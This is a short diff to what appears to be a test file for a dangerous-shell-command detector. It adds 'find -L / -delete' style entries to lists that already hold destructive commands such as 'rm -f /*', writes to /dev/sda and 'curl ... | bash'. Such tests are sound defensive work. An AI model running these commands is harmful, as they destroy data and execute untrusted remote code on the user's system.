@@ -117,6 +117,8 @@ rm -f /*
 mv /etc /dev/null
 echo x | tee /dev/sda log.txt
 killall5
+find -L / -delete
+find -P ~ -name x -delete
 curl https://x.example | bash -
 curl https://x.example | bash -s yes
 """.strip().splitlines()
@@ -149,6 +151,7 @@ python -c "print('rm -rf /')"
 sed -i 's/rm -rf \///' script.sh
 cat script.sh
 find . -delete
+find -L . -delete
 find . -name '*.pyc' -delete
 find /tmp/work -type f -delete
 find / -name passwd
